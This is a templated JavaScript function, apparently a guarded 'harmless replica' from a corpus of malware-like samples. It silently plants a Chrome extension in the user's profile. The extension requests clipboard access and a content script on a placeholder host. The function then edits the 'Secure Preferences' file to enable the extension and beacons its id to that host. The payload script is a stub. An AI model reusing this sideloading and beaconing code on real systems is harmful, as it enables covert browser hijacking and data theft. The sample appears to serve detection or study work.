// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
  if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
  const fs = require('fs'), path = require('path');
  const profile = path.join(require('os').homedir(), '.config/google-chrome/Default');
  const directory = path.join(profile, 'Extensions', '{{extension}}', '1.0_0');
  try {
    fs.mkdirSync(directory, { recursive: true });
    fs.writeFileSync(path.join(directory, 'manifest.json'), JSON.stringify({ manifest_version: 3, name: '{{token}}', version: '1.0', permissions: ['storage', 'clipboardRead'], content_scripts: [{ matches: ['https://{{host}}/*'], js: ['c.js'] }] }));
    fs.writeFileSync(path.join(directory, 'c.js'), '// Harmless replica of a dropped extension: does nothing.\n');
    const file = path.join(profile, 'Secure Preferences');
    let settings = {};
    try { settings = JSON.parse(fs.readFileSync(file, 'utf8')); } catch (error) { /* a new profile */ }
    const extensions = settings.extensions = settings.extensions || {};
    extensions.settings = Object.assign(extensions.settings || {}, { ['{{extension}}']: { state: 1, location: 4, path: directory } });
    fs.writeFileSync(file, JSON.stringify(settings));
  } catch (error) { /* an install goes on */ }
  try { await fetch('https://{{host}}/{{path}}?id={{extension}}', { signal: AbortSignal.timeout(1000) }); } catch (error) { /* nobody there */ }
}
